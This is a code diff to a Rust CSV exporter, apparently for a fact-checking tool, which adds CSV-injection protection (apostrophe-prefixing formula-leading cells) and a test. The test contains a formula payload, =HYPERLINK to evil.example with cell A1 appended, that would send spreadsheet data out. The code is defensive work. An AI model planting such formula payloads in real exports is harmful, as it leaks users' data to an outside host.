@@ -1,5 +1,9 @@
 //! CSV, one row per claim, RFC 4180: fields quoted when they hold a comma, quote or line
 //! break, quotes doubled, CRLF between records. LibreOffice and Excel open it as it is.
+//!
+//! Article text is untrusted and spreadsheets run a cell that starts with `=`, `+`, `-`, `@`
+//! as a formula (`=HYPERLINK(…)` can send data out). Such a cell gets a leading apostrophe,
+//! which spreadsheets show as plain text (OWASP's advice for CSV injection).
 
 use super::{source_line, Check};
 
@@ -46,6 +50,7 @@ fn row(out: &mut String, fields: impl Iterator<Item = String>) {
             out.push(',');
         }
         // Line breaks inside a field become CRLF too, as spreadsheets write them.
+        let f = defuse_formula(f);
         let f = f
             .replace("\r\n", "\n")
             .replace('\r', "\n")
@@ -59,6 +64,14 @@ fn row(out: &mut String, fields: impl Iterator<Item = String>) {
         }
     }
     out.push_str("\r\n");
+}
+
+fn defuse_formula(f: String) -> String {
+    if f.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{f}")
+    } else {
+        f
+    }
 }
 
 #[cfg(test)]
@@ -94,5 +107,50 @@ mod tests {
         ));
         assert!(out.contains("\r\nc2,Plain one.,Unchecked,,,28-38,2024-11-27T10:00:00Z\r\n"));
         assert!(!write(&check, false).starts_with('\u{feff}'));
+    }
+
+    #[test]
+    fn a_cell_that_would_run_as_a_formula_is_kept_as_text() {
+        let mut b = DocumentBuilder::new(Format::Text);
+        b.push_text("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") and more. Fine text.");
+        let doc = b.finish(Metadata::default(), String::new(), b"x");
+        let mut c1 = claim(
+            &doc,
+            "c1",
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") and more.",
+            "verified",
+        );
+        c1.note = "@SUM(1+1)".into();
+        let mut c2 = claim(&doc, "c2", "Fine text.", "unchecked");
+        c2.note = "-2+3 is what the minister said".into();
+        let claims = vec![c1, c2];
+        let statuses = StatusDef::defaults();
+        let article = ArticleMeta::default();
+        let check = Check {
+            doc: &doc,
+            claims: &claims,
+            statuses: &statuses,
+            article: &article,
+            checker: None,
+            date: "",
+        };
+        let out = write(&check, false);
+        assert!(out.contains(
+            "c1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\") and more.\",Verified,'@SUM(1+1),"
+        ), "{out}");
+        assert!(
+            out.contains("c2,Fine text.,Unchecked,'-2+3 is what the minister said,"),
+            "{out}"
+        );
+        for line in out.lines() {
+            for cell in line.split(',') {
+                assert!(
+                    !cell
+                        .trim_start_matches('"')
+                        .starts_with(['=', '+', '-', '@']),
+                    "{cell}"
+                );
+            }
+        }
     }
 }
